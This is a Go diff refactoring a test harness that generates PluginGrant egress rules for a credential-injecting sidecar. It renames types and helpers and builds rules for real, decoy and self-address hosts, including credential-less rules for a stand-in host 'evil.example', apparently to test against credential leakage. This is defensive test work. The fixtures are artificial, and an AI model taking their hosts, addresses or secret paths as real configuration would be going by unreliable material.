-	vault := r.world.Vault.Address[strings.LastIndex(r.world.Vault.Address, ":")+1:]
+// ownAddresses are granted names that resolve to the sidecar's own addresses.
+func (h *harness) ownAddresses() []struct{ host, port string } {
+	_, metrics, _ := net.SplitHostPort(h.metrics)
+	vault := h.scenario.Vault.Address[strings.LastIndex(h.scenario.Vault.Address, ":")+1:]
 	return []struct{ host, port string }{{"vault.self.example", vault}, {"metrics.self.example", metrics}}
 }
 
 // grant gives every kind of credential a rule of its own. Behind Envoy no rule
 // states what Envoy's door does not see to.
-func (r *room) grant(envoy bool) string {
+func (h *harness) grant(envoy bool) string {
 	var rules, credentials strings.Builder
 	rule := func(id, to, credential string, states string) {
 		if envoy {
@@ -600,30 +600,30 @@ func (r *room) grant(envoy bool) string {
 		fmt.Fprintf(&rules, "  - {id: %s, reason: Tests, to: {%s%s}, methods: [GET, POST, PUT], paths: [\"/v1/**\"], upgrades: [websocket]%s}\n", id, to, states, credential)
 	}
 	const local = ", addresses: [127.0.0.1/32], tls: {caFile: api-ca.pem, originate: true}"
-	for _, k := range r.kinds {
+	for _, k := range h.kinds {
 		n := k.name
 		hosts := n + ".good.example"
-		for _, other := range rebound() {
+		for _, other := range reboundNames() {
 			hosts += ", " + n + "." + other.name + ".example"
 		}
-		rule(n, fmt.Sprintf("hosts: [%s], ports: [%s]", hosts, r.names["{P}"]), ", credential: "+n, local)
+		rule(n, fmt.Sprintf("hosts: [%s], ports: [%s]", hosts, h.names["{P}"]), ", credential: "+n, local)
 		path := k.vault
 		if path == "" {
 			path = "secret/data/" + n
 		}
 		fmt.Fprintf(&credentials, "  - name: %s\n    vault: {path: %s}\n    inject: %s\n%s", n, path, k.inject, k.extra)
 	}
-	for i, s := range r.spares() {
-		rule(fmt.Sprintf("spare-%d", i), fmt.Sprintf("hosts: [%s], ports: [%s]", s.host, r.names["{P}"]), fmt.Sprintf(", credential: spare-%d", i), local)
+	for i, s := range h.decoys() {
+		rule(fmt.Sprintf("spare-%d", i), fmt.Sprintf("hosts: [%s], ports: [%s]", s.host, h.names["{P}"]), fmt.Sprintf(", credential: spare-%d", i), local)
 		fmt.Fprintf(&credentials, "  - name: spare-%d\n    vault: {path: %s}\n    inject: %s\n", i, s.path, s.inject)
 	}
-	rule("evil", "hosts: [evil.example], ports: ["+r.names["{P}"]+"]", "", ", addresses: [127.0.0.2/32], tls: {caFile: api-ca.pem, originate: true}")
-	rule("evil-in-clear", "scheme: http, hosts: [evil.example], ports: ["+r.names["{CLEAR}"]+"]", "", ", addresses: [127.0.0.2/32]")
-	for _, self := range r.selves() {
+	rule("evil", "hosts: [evil.example], ports: ["+h.names["{P}"]+"]", "", ", addresses: [127.0.0.2/32], tls: {caFile: api-ca.pem, originate: true}")
+	rule("evil-in-clear", "scheme: http, hosts: [evil.example], ports: ["+h.names["{CLEAR}"]+"]", "", ", addresses: [127.0.0.2/32]")
+	for _, self := range h.ownAddresses() {
 		rule(strings.ReplaceAll(self.host, ".", "-"), "scheme: http, hosts: ["+self.host+"], ports: ["+self.port+"]", "", ", addresses: [127.0.0.1/32]")
 	}
 	if envoy {
-		fmt.Fprintf(&rules, "  - {id: stated, reason: Tests, to: {hosts: [stated.good.example], ports: [%s], addresses: [127.0.0.1/32]}, methods: [GET], paths: [\"/v1/**\"], credential: header}\n", r.names["{P}"])
+		fmt.Fprintf(&rules, "  - {id: stated, reason: Tests, to: {hosts: [stated.good.example], ports: [%s], addresses: [127.0.0.1/32]}, methods: [GET], paths: [\"/v1/**\"], credential: header}\n", h.names["{P}"])
 	}
 	return fmt.Sprintf(`apiVersion: chaperone.dev/v1alpha1
 kind: PluginGrant
